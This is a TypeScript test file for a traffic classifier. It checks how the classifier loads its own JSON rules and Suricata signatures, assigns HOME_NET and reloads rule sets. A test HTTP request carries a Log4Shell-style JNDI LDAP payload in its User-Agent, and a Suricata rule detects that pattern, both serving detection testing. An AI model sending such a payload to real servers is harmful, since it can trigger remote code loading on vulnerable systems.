// One classifier over our rules and the community signatures: --rules takes JSON and Suricata .rules files (and
// directories of either), --rules-dir the installed set; our labels first, community labels after, from the same
// parse; HOME_NET from the monitored networks; per-source state per classifier, compiled signatures shared.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ClassifyInput } from '../../../src/classify/types.ts';
import { isCommunityLabel, labelKey } from '../../../src/record/flow-record.ts';
import { loadClassifier, NO_SIGNATURE_SETTINGS, splitRulePaths } from '../../../src/ruleset/load-classifier.ts';

const dir = mkdtempSync(join(tmpdir(), 'synbait-load-rules-'));
process.on('exit', () => rmSync(dir, { recursive: true, force: true }));

const RULES = [
  'alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"LOCAL JNDI lookup in the User-Agent"; flow:established,to_server; http.user_agent; content:"${jndi:"; nocase; classtype:attempted-admin; sid:9000001; rev:2;)',
  'alert tcp $HOME_NET any -> $EXTERNAL_NET any (msg:"LOCAL outbound only"; flow:to_server; content:"GET"; sid:9000002; rev:1;)',
  '# alert tcp any any -> any any (msg:"LOCAL disabled"; content:"GET"; sid:9000003; rev:1;)',
].join('\n');
const OWN = [{ id: 'local-1', rev: 1, name: 'Local JSON rule', category: 'probe', severity: 'low', match: { field: 'http.path', prefix: '/probe' } }];
writeFileSync(join(dir, 'local.rules'), RULES + '\n');
writeFileSync(join(dir, 'classification.config'), 'config classification: attempted-admin,Attempted Administrator Privilege Gain,1\n');
writeFileSync(join(dir, 'own.json'), JSON.stringify(OWN));

const input = (payload: string, dst = '198.18.0.1'): ClassifyInput => ({
  proto: 'tcp', state: 'acked', ip_version: 4, src_ip: '203.0.113.9', src_port: 40000, dst_ip: dst, dst_port: 8080,
  payload: Buffer.from(payload, 'latin1'), ts_ms: 0,
});
const REQ = 'GET /probe HTTP/1.1\r\nHost: x\r\nUser-Agent: ${JNDI:ldap://192.0.2.7/a}\r\n\r\n';

test('--rules splits by kind: .rules files to the signatures, other files to JSON, directories to both', async () => {
  assert.deepEqual(await splitRulePaths([join(dir, 'local.rules'), join(dir, 'own.json'), dir, join(dir, 'missing.json')]), {
    json: [join(dir, 'own.json'), dir, join(dir, 'missing.json')],
    suricata: [join(dir, 'local.rules'), dir],
  });
});

test('our labels first, then the community rule\'s, with sid, rev, msg, classtype, severity and ruleset', async () => {
  const loaded = await loadClassifier({ rulePaths: [join(dir, 'local.rules'), join(dir, 'own.json')], signatures: NO_SIGNATURE_SETTINGS, homeNets: ['198.18.0.0/24'] });
  assert.equal(loaded.community?.compiled.stats.loaded, 2);
  assert.equal(loaded.community?.compiled.stats.enabled, 2, 'the commented-out rule is not enabled');
  const c = loaded.newClassifier();
  const labels = c.classify(input(REQ)).labels;
  assert.deepEqual(labels.map(labelKey), ['sb-2011', 'local-1', 'local:9000001'], 'the built-in Log4j rule, ours, the community rule; the outbound rule does not fire on a record into HOME_NET');
  const community = labels.find(isCommunityLabel)!;
  assert.deepEqual(community, {
    sid: 9000001, rev: 2, name: 'LOCAL JNDI lookup in the User-Agent', category: 'attempted-admin', severity: 'high', ruleset: 'local',
  });
  // a destination outside HOME_NET is not home: the inbound rule does not apply there
  assert.deepEqual(c.classify(input(REQ, '192.0.2.99')).labels.map(labelKey), ['sb-2011', 'local-1']);
  assert.equal(c.ruleCount, c.ownRuleCount + 2);
});

test('without networks (label, report --relabel) every destination is home and every source external', async () => {
  const c = (await loadClassifier({ rulePaths: [join(dir, 'local.rules')], signatures: NO_SIGNATURE_SETTINGS, homeNets: [] })).newClassifier();
  assert.ok(c.classify(input(REQ, '192.0.2.99')).labels.some((l) => labelKey(l) === 'local:9000001'));
});

test('--rules-dir: the installed current set, labelled as et/open when it came from Emerging Threats', async () => {
  const rulesDir = join(dir, 'store');
  const set = join(rulesDir, 'sets', '20261201T000000Z-abcdef01');
  mkdirSync(set, { recursive: true });
  writeFileSync(join(set, 'emerging-exploit.rules'), RULES.split('\n')[0] + '\n');
  writeFileSync(join(set, 'SOURCE'), 'source: https://rules.emergingthreats.net/open/suricata-7.0.3/emerging.rules.tar.gz\n');
  symlinkSync(join('sets', '20261201T000000Z-abcdef01'), join(rulesDir, 'current'));
  const loaded = await loadClassifier({ rulePaths: [], signatures: { ...NO_SIGNATURE_SETTINGS, rulesDir }, homeNets: [] });
  assert.deepEqual(loaded.community?.files.map((f) => f.ruleset), ['et/open']);
  assert.deepEqual(loaded.newClassifier().classify(input(REQ)).labels.map(labelKey), ['sb-2011', 'et/open:9000001']);
  // nothing installed yet: no community signatures, our rules only
  const empty = await loadClassifier({ rulePaths: [], signatures: { ...NO_SIGNATURE_SETTINGS, rulesDir: join(dir, 'empty') }, homeNets: [] });
  assert.equal(empty.community, undefined);
});

test('a replaced signature set takes effect from the next record (a reload)', async () => {
  const c = (await loadClassifier({ rulePaths: [join(dir, 'local.rules')], signatures: NO_SIGNATURE_SETTINGS, homeNets: ['198.18.0.0/24'] })).newClassifier();
  assert.equal(c.classify(input(REQ)).labels.filter(isCommunityLabel).length, 1);
  c.replaceSignatures(undefined);
  assert.equal(c.classify(input(REQ)).labels.filter(isCommunityLabel).length, 0);
});
